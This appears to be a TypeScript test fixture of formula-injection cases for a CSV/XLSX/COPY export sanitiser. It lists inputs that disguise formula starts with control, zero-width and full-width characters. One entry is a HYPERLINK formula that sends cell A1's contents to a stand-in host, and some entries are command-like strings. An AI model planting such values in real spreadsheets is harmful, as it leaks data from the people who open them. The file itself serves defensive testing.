/** Cases of the formula rule, shared by the CSV, XLSX and PostgreSQL COPY tests. */

/** Text a spreadsheet may run (docs/formats.md, "Formula injection"). */
export const HIDDEN_FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\tx', // OWASP: TAB, CR, LF and NUL lead
  '\rx',
  '\nx',
  '\u0000x',
  ' =1+1', // white space before: Sheets and LibreOffice drop it
  '   @cmd',
  '\u00a0=1', // no-break space
  '\u3000=1', // ideographic space
  '\u2003+1', // em space
  '\u000b=1', // vertical tab
  '\ufeff=1', // BOM
  '\u200b=1', // zero-width space
  '\u200d\u200c-1', // zero-width joiner and non-joiner
  '\u2060@x', // word joiner
  '\u202e=1', // right-to-left override
  '\u001c=HYPERLINK("http://x/?"&A1)', // other control characters: Python's strip() drops U+001C-001F
  '\u001f+1+cmd',
  '\u0001=1+1', // Java's trim() drops everything up to U+0020
  ' \t\u200b =HYPERLINK("http://x","y")', // mixed run
  '＝1+1', // full-width = + - @
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' ＝1', // full-width after white space
  '﹦1', // small forms: NFKC folds them too
  '﹢1',
  '﹣1',
  '﹫x',
];

/** Text that stays as it is. */
export const PLAIN_TEXT = [
  'plain',
  'a=b',
  '1-2',
  ' leading space',
  '\u00a0no-break',
  '\u200bzero width',
  '\ufeffbom text',
  '日本語',
  'Ａ＝Ｂ', // full-width, but not first
  '−1', // U+2212 minus sign: no spreadsheet reads it as a formula start
  '–dash',
  "'already",
  '',
  '   ',
  '\u200b',
  '\u001cplain', // a control character before ordinary text
];
